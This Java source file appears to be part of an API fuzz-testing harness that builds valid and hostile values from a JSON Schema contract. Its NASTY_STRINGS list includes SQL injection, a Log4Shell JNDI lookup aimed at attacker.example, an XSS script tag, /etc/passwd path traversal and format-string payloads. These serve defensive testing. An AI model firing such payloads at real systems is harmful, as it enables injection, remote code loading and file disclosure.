package nl.omzien.hardening;

import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.time.LocalDate;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.time.format.DateTimeParseException;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.function.Function;
import java.util.regex.Pattern;

/**
 * Values for a JSON Schema of the contract: a plausible valid one (to start from), and the hostile ones a
 * mutation puts in its place. Deterministic for a given {@link Random}.
 */
final class SchemaValues {
  /** Strings tried, in order, against a schema's pattern when nothing more specific fits. */
  private static final List<String> PATTERN_CANDIDATES = List.of(
      "Ria de Vries", "10:00", "nl", "+31612345678", "1.4.2", "WK034403", "BU03440331", "key-0123456789",
      "abcDEF123", "2026-12-01", "a");

  /** Strings that have broken parsers, databases, logs and terminals. */
  static final List<String> NASTY_STRINGS = List.of(
      "\u0000", "Ria\u0000de Vries", "\ud800", "\udfff lone low", "a\ud83d", "\u202eRTL override\u202c",
      "\u200f\u05e9\u05dc\u05d5\u05dd", "\ud83d\udc75\ud83c\udffd\u200d\ud83e\uddbd", "\ud83d\ude00".repeat(50),
      "e\u0301\u0301\u0301\u0301\u0301", "\ufeffBOM", "\uffff\ufffe", "\u2028line\u2029para", "\u200b\u200b",
      "Z\u0351\u0310a\u0352l\u033fg\u0334o", "\t\r\n", " ", "", "'; drop table app_user; --", "\" or 1=1 --",
      "%00", "%s%s%s%n", "${jndi:ldap://attacker.example/a}", "<script>alert(1)</script>", "../../etc/passwd",
      "\\u0000", "null", "NaN", "-0", "1e309", "\u00c5ngstr\u00f6m", "A\u030angstro\u0308m", "\uff21\uff42\uff43",
      "\u0130stanbul", "\u00df".repeat(100));

  private final Spec spec;
  private final Random random;

  SchemaValues(Spec spec, Random random) {
    this.spec = spec;
    this.random = random;
  }

  /** A value that satisfies {@code schema} as far as a schema can say (domain rules may still refuse it). */
  Object valid(JsonObject schemaOrRef, String propertyName) {
    JsonObject schema = spec.resolve(schemaOrRef);
    for (String combinator : List.of("oneOf", "anyOf")) {
      if (schema.containsKey(combinator)) {
        List<JsonObject> options = new ArrayList<>();
        for (Object option : schema.getJsonArray(combinator)) {
          JsonObject resolved = spec.resolve((JsonObject) option);
          if (!"null".equals(resolved.getValue("type"))) {
            options.add(resolved);
          }
        }
        return valid(options.get(random.nextInt(options.size())), propertyName);
      }
    }
    if (schema.containsKey("allOf")) {
      JsonObject merged = new JsonObject();
      schema.getJsonArray("allOf").forEach(part -> merged.mergeIn(spec.resolve((JsonObject) part), true));
      return valid(merged, propertyName);
    }
    if (schema.containsKey("const")) {
      return schema.getValue("const");
    }
    if (schema.containsKey("enum")) {
      JsonArray values = schema.getJsonArray("enum");
      return values.getValue(random.nextInt(values.size()));
    }
    if (schema.containsKey("default") && random.nextInt(4) == 0) {
      return schema.getValue("default");
    }
    return switch (type(schema)) {
      case "object" -> validObject(schema);
      case "array" -> validArray(schema, propertyName);
      case "integer" -> (long) Math.round(validNumber(schema, propertyName, true));
      case "number" -> validNumber(schema, propertyName, false);
      case "boolean" -> random.nextBoolean();
      case "null" -> null;
      default -> validString(schema, propertyName);
    };
  }

  /** The schema's type; the first non-null one when it lists several. */
  static String type(JsonObject schema) {
    Object type = schema.getValue("type");
    if (type instanceof JsonArray types) {
      return types.stream().map(Object::toString).filter(t -> !t.equals("null")).findFirst().orElse("null");
    }
    if (type == null) {
      return schema.containsKey("properties") ? "object" : schema.containsKey("items") ? "array" : "string";
    }
    return type.toString();
  }

  private JsonObject validObject(JsonObject schema) {
    JsonObject object = new JsonObject();
    JsonObject properties = schema.getJsonObject("properties", new JsonObject());
    List<String> required = schema.getJsonArray("required", new JsonArray()).stream().map(Object::toString).toList();
    for (String name : properties.fieldNames()) {
      if (required.contains(name) || random.nextBoolean()) {
        object.put(name, valid(properties.getJsonObject(name), name));
      }
    }
    return object;
  }

  private JsonArray validArray(JsonObject schema, String propertyName) {
    int min = schema.getInteger("minItems", 0);
    int max = Math.min(schema.getInteger("maxItems", 3), Math.max(min, 3));
    int size = min + random.nextInt(Math.max(1, max - min + 1));
    JsonArray array = new JsonArray();
    JsonObject items = schema.getJsonObject("items", new JsonObject());
    for (int i = 0; i < size * 3 && array.size() < size; i++) {
      Object item = valid(items, propertyName);
      if (!schema.getBoolean("uniqueItems", false) || !array.contains(item)) {
        array.add(item);
      }
    }
    return array;
  }

  private double validNumber(JsonObject schema, String propertyName, boolean integer) {
    if ("lat".equals(propertyName)) {
      return 52.07 + random.nextDouble() * 0.05; // Utrecht, where points must lie
    }
    if ("lon".equals(propertyName)) {
      return 5.08 + random.nextDouble() * 0.07;
    }
    double min = schema.containsKey("minimum") ? schema.getDouble("minimum")
        : schema.containsKey("exclusiveMinimum") ? schema.getDouble("exclusiveMinimum") + 1 : 0;
    double max = schema.containsKey("maximum") ? schema.getDouble("maximum")
        : schema.containsKey("exclusiveMaximum") ? schema.getDouble("exclusiveMaximum") - 1 : min + 100;
    double value = min + random.nextDouble() * Math.max(0, max - min);
    return integer ? Math.floor(value) : value;
  }

  private String validString(JsonObject schema, String propertyName) {
    String format = schema.getString("format", "");
    String value = switch (format) {
      case "uuid" -> UUID.randomUUID().toString();
      case "date" -> LocalDate.now(ZoneOffset.UTC).plusDays(3 + random.nextInt(30)).toString();
      case "date-time" -> World.iso(OffsetDateTime.now(ZoneOffset.UTC).plusDays(3 + random.nextInt(30))
          .truncatedTo(ChronoUnit.HOURS));
      case "uri" -> "https://omzien.nl/";
      default -> null;
    };
    if (value != null) {
      return value;
    }
    int min = schema.getInteger("minLength", 1);
    int max = schema.getInteger("maxLength", 40);
    String pattern = schema.getString("pattern");
    for (String candidate : PATTERN_CANDIDATES) {
      if (candidate.length() >= min && candidate.length() <= max
          && (pattern == null || Pattern.compile(pattern).matcher(candidate).find())) {
        return candidate;
      }
    }
    return "x".repeat(Math.max(1, min));
  }

  /** Values of another JSON type than the schema wants. */
  List<Object> wrongTypes(JsonObject schemaOrRef) {
    String type = type(spec.resolve(schemaOrRef));
    List<Object> all = new ArrayList<>(List.of("text", 42, -1.5, true, new JsonObject().put("a", 1),
        new JsonArray().add(1).add("b"), new JsonObject(), new JsonArray()));
    all.removeIf(v -> switch (type) {
      case "string" -> v instanceof String;
      case "integer", "number" -> v instanceof Number;
      case "boolean" -> v instanceof Boolean;
      case "object" -> v instanceof JsonObject;
      case "array" -> v instanceof JsonArray;
      default -> false;
    });
    return all;
  }

  /** Numbers at and beyond the schema's bounds, extremes, and fractions where integers are wanted. */
  List<Object> boundaryNumbers(JsonObject schemaOrRef) {
    JsonObject schema = spec.resolve(schemaOrRef);
    List<Object> values = new ArrayList<>(List.of(0, -1, 1e308, -1e308, Long.MAX_VALUE, Long.MIN_VALUE,
        new java.math.BigInteger("123456789012345678901234567890"), 4.9e-324, 0.5, -0.0, 2147483648L));
    for (String bound : List.of("minimum", "maximum", "exclusiveMinimum", "exclusiveMaximum")) {
      if (schema.containsKey(bound)) {
        double b = schema.getDouble(bound);
        values.add(b);
        values.add(b - 1);
        values.add(b + 1);
        values.add(Math.nextUp(b));
        values.add(Math.nextDown(b));
      }
    }
    return values;
  }

  /** Strings at and beyond the schema's length bounds. */
  List<String> boundaryStrings(JsonObject schemaOrRef) {
    JsonObject schema = spec.resolve(schemaOrRef);
    List<String> values = new ArrayList<>(List.of("a".repeat(10_000), "\u00e9".repeat(5_000),
        "\ud83d\udc75".repeat(3_000)));
    if (schema.containsKey("maxLength")) {
      int max = schema.getInteger("maxLength");
      values.add("x".repeat(max));
      values.add("x".repeat(max + 1));
      values.add("\ud83d\udc75".repeat(max)); // max code points, 2x the UTF-16 units
    }
    if (schema.containsKey("minLength")) {
      int min = schema.getInteger("minLength");
      values.add("x".repeat(Math.max(0, min - 1)));
      values.add("x".repeat(min));
    }
    return values;
  }

  /** Arrays beyond the schema's size bounds. */
  List<JsonArray> overlongArrays(JsonObject schemaOrRef, String propertyName) {
    JsonObject schema = spec.resolve(schemaOrRef);
    JsonObject items = schema.getJsonObject("items", new JsonObject());
    List<JsonArray> values = new ArrayList<>();
    int max = schema.getInteger("maxItems", 100);
    JsonArray overlong = new JsonArray();
    for (int i = 0; i < max + 1; i++) {
      overlong.add(valid(items, propertyName));
    }
    values.add(overlong);
    JsonArray huge = new JsonArray();
    Object one = valid(items, propertyName);
    for (int i = 0; i < 5_000; i++) {
      huge.add(one);
    }
    values.add(huge);
    values.add(new JsonArray());
    return values;
  }

  /**
   * Example values from the contract, with dates and times moved into the future by whole years (so relations
   * between them hold), because examples written in the past would be refused for being in the past.
   */
  static Object freshen(Object example) {
    int years = yearsBehind(example, 0);
    return years == 0 ? copy(example) : map(example, s -> shift(s, years));
  }

  private static int yearsBehind(Object node, int most) {
    if (node instanceof Map<?, ?> map) {
      for (Object value : map.values()) {
        most = yearsBehind(value, most);
      }
    } else if (node instanceof List<?> list) {
      for (Object value : list) {
        most = yearsBehind(value, most);
      }
    } else if (node instanceof JsonObject object) {
      return yearsBehind(object.getMap(), most);
    } else if (node instanceof JsonArray array) {
      return yearsBehind(array.getList(), most);
    } else if (node instanceof String s) {
      LocalDate date = dateOf(s);
      if (date != null) {
        LocalDate today = LocalDate.now(ZoneOffset.UTC);
        int behind = 0;
        while (!date.plusYears(behind).isAfter(today.plusDays(2))) {
          behind++;
        }
        most = Math.max(most, behind);
      }
    }
    return most;
  }

  private static LocalDate dateOf(String s) {
    try {
      if (s.length() == 10) {
        return LocalDate.parse(s);
      }
      if (s.length() > 18 && s.charAt(10) == 'T') {
        return OffsetDateTime.parse(s).toLocalDate();
      }
    } catch (DateTimeParseException e) {
      return null;
    }
    return null;
  }

  private static String shift(String s, int years) {
    try {
      if (s.length() == 10) {
        return LocalDate.parse(s).plusYears(years).toString();
      }
      if (s.length() > 18 && s.charAt(10) == 'T') {
        return World.iso(OffsetDateTime.parse(s).plusYears(years));
      }
    } catch (DateTimeParseException e) {
      return s;
    }
    return s;
  }

  private static Object map(Object node, Function<String, String> strings) {
    if (node instanceof JsonObject object) {
      JsonObject copy = new JsonObject();
      object.forEach(e -> copy.put(e.getKey(), map(e.getValue(), strings)));
      return copy;
    }
    if (node instanceof JsonArray array) {
      JsonArray copy = new JsonArray();
      array.forEach(v -> copy.add(map(v, strings)));
      return copy;
    }
    return node instanceof String s ? strings.apply(s) : node;
  }

  static Object copy(Object node) {
    return map(node, Function.identity());
  }
}
